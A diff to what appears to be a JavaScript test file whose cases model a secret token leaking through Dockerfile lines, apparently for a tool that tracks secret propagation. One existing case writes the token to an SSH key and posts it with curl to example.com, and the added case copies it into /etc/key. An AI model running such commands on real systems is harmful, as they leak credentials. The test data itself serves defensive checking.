@@ -95,6 +95,10 @@ test.each([
     'more becomes of the variable',
     `${writes}RUN echo "$KEY_TOKEN" > /root/.ssh/id_rsa && curl -d "$KEY_TOKEN" https://example.com/\n${clones}`,
   ],
+  [
+    'another file gets it too',
+    `${writes}RUN echo "$KEY_TOKEN" > /root/.ssh/id_rsa\nCOPY <<END /etc/key\n$KEY_TOKEN\nEND\n${clones}`,
+  ],
   ['it is written elsewhere', `${writes}RUN echo "$KEY_TOKEN" > /etc/token\n${clones}`],
   [
     'the key is copied on',
